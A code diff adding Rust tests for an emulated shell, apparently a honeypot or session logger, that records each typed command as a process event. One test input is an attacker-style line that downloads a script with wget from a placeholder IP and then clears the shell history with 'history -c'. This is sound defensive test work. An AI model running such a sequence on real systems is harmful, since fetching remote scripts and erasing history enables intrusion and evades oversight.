@@ -180,7 +180,12 @@ fn interactive_editing_prompt_and_limits() {
         out.actions,
         [
             Action::Command("pwd".into()),
-            Action::Typed("pwf\\x7fd".into())
+            Action::Typed("pwf\\x7fd".into()),
+            Action::Process {
+                image: "/usr/bin/pwd".into(),
+                command_line: "pwd".into(),
+                parent: "/bin/bash",
+            }
         ]
     );
     let out = sh.feed(&[b'x'; 1000]);
@@ -281,6 +286,26 @@ fn cat_reads_the_terminal_until_ctrl_d_and_heredocs_until_their_word() {
     );
     let out = sh.feed(b"echo done\r");
     assert!(String::from_utf8_lossy(&out.data).contains("done"));
+}
+
+#[test]
+fn each_simple_command_is_noted_as_a_process_of_its_line() {
+    let mut sh = shell();
+    let out = sh.exec("cd /tmp; wget http://203.0.113.9/x.sh; nosuch; history -c");
+    let grouped = with_notes(out.actions);
+    let processes: Vec<(&str, &str, &str)> = grouped
+        .iter()
+        .flat_map(|(_, notes)| notes.processes.iter())
+        .map(|(image, line, parent)| (image.as_str(), line.as_str(), *parent))
+        .collect();
+    assert_eq!(
+        processes,
+        [
+            ("/bin/bash", "cd /tmp", "/bin/bash"),
+            ("/usr/bin/wget", "wget http://203.0.113.9/x.sh", "/bin/bash"),
+            ("/bin/bash", "history -c", "/bin/bash"),
+        ]
+    );
 }
 
 #[test]
